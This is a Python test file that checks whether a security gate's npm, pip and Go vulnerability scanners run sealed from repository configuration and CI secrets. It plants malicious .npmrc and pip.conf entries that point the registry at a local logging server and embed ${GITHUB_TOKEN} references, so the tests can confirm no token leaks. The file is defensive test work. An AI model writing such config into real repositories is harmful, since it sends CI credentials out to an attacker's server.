"""Scanners run sealed: a tree's own tool configuration (`.npmrc`, `pip.conf`, Go settings) and
the gate's secrets (the GitHub token, the Actions runtime token, cloud keys) never reach them.
Each attack is planted for real: configuration pointing at a logging server on 127.0.0.1 with a
`${TOKEN}` reference, and the tokens in the environment; the server must see nothing."""

from __future__ import annotations

import http.server
import shutil
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest

from readiness.repo import Repo
from readiness.scanners import process
from readiness.scanners.base import OK
from readiness.scanners.govulncheck import Govulncheck
from readiness.scanners.npm_audit import NpmAudit
from readiness.scanners.pip_audit import PipAudit
from tests.scanners.conftest import FIXTURES
from tests.scanners.osv_server import OsvServer

TOKEN = "ghs_planted0000000000000000000000000000"
SECRETS = {
    "GITHUB_TOKEN": TOKEN,
    "INPUT_GITHUB-TOKEN": TOKEN,
    "ACTIONS_RUNTIME_TOKEN": TOKEN,
    "ACTIONS_ID_TOKEN_REQUEST_TOKEN": TOKEN,
    "AWS_SECRET_ACCESS_KEY": TOKEN,
    "GOOGLE_APPLICATION_CREDENTIALS": "/secrets/key.json",
    "NPM_TOKEN": TOKEN,
}


class Logger:
    """An HTTP server on 127.0.0.1 that records every request (path and headers) and answers {}."""

    def __init__(self) -> None:
        self.hits: list[str] = []
        hits = self.hits

        class Handler(http.server.BaseHTTPRequestHandler):
            def _record(self) -> None:
                hits.append(f"{self.command} {self.path} {dict(self.headers)}")
                body = b"{}"
                self.send_response(200)
                self.send_header("Content-Type", "application/json")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            do_GET = do_POST = do_PUT = _record

            def log_message(self, *args: object) -> None:
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}/"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()


@pytest.fixture
def logger() -> Iterator[Logger]:
    server = Logger()
    yield server
    server.server.shutdown()


@pytest.fixture
def secrets(monkeypatch: pytest.MonkeyPatch) -> None:
    for name, value in SECRETS.items():
        monkeypatch.setenv(name, value)


def test_the_environment_is_an_allow_list(secrets: None, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("npm_config_registry", "http://127.0.0.1:1/")
    monkeypatch.setenv("PIP_INDEX_URL", "http://127.0.0.1:1/")
    monkeypatch.setenv("GOFLAGS", "-mod=mod")
    monkeypatch.setenv("SAFETY_API_KEY", "k")
    sealed = process.sealed_env({"GOPROXY": "off"})
    assert not set(SECRETS) & set(sealed)
    assert not {"npm_config_registry", "PIP_INDEX_URL", "GOFLAGS", "SAFETY_API_KEY"} & set(sealed)
    assert sealed["PATH"] and sealed["GOPROXY"] == "off"
    assert process.sealed_env(passed=("SAFETY_API_KEY",))["SAFETY_API_KEY"] == "k"


def test_a_planted_npmrc_gets_neither_the_audit_nor_the_token(
    tmp_path: Path, osv: OsvServer, logger: Logger, secrets: None, monkeypatch: pytest.MonkeyPatch
) -> None:
    root = Path(shutil.copytree(FIXTURES / "npm-lock", tmp_path / "tree"))
    host = logger.url.removeprefix("http:")
    (root / ".npmrc").write_text(
        f"registry={logger.url}\n{host}:_authToken=${{INPUT_GITHUB-TOKEN}}\n"
        f"{host}:_authToken=${{GITHUB_TOKEN}}\nalways-auth=true\n"
    )
    monkeypatch.setenv("npm_config_registry", logger.url)  # the workflow's env, not the gate's setting
    monkeypatch.setenv("READINESS_NPM_REGISTRY", osv.base + "/")
    output = NpmAudit().run(Repo(root), timeout=300)
    assert output.status == OK, output.detail
    assert logger.hits == []
    assert osv.requests and osv.requests[0] == "POST /-/npm/v1/security/advisories/bulk"
    assert len(output.data.vulnerabilities) > 0  # the audit happened, against the gate's registry


def test_a_planted_pip_conf_is_never_read(
    tmp_path: Path, osv: OsvServer, logger: Logger, secrets: None, monkeypatch: pytest.MonkeyPatch
) -> None:
    root = Path(shutil.copytree(FIXTURES / "python-vulnerable", tmp_path / "tree"))
    planted = f"[global]\nindex-url = {logger.url}simple?token=${{GITHUB_TOKEN}}\n"
    for where in ("pip.conf", ".pip/pip.conf", ".config/pip/pip.conf"):
        (root / where).parent.mkdir(parents=True, exist_ok=True)
        (root / where).write_text(planted)
    monkeypatch.setenv("PIP_CONFIG_FILE", str(root / "pip.conf"))
    monkeypatch.setenv("PIP_INDEX_URL", logger.url)
    output = PipAudit(osv.url).run(Repo(root), timeout=300)
    assert output.status == OK, output.detail
    assert logger.hits == []
    assert {v.package for v in output.data.vulnerabilities} == {"django", "requests", "urllib3"}


def test_go_settings_from_the_environment_fetch_nothing(
    tmp_path: Path, go_db: Path, logger: Logger, secrets: None, monkeypatch: pytest.MonkeyPatch
) -> None:
    root = Path(shutil.copytree(FIXTURES / "go-stdlib", tmp_path / "tree"))
    monkeypatch.setenv("GOFLAGS", "-mod=mod")
    monkeypatch.setenv("GOPROXY", logger.url)
    monkeypatch.setenv("GONOSUMDB", "*")
    output = Govulncheck(f"file://{go_db}").run(Repo(root), timeout=600)
    assert output.status == OK, output.detail
    assert logger.hits == []
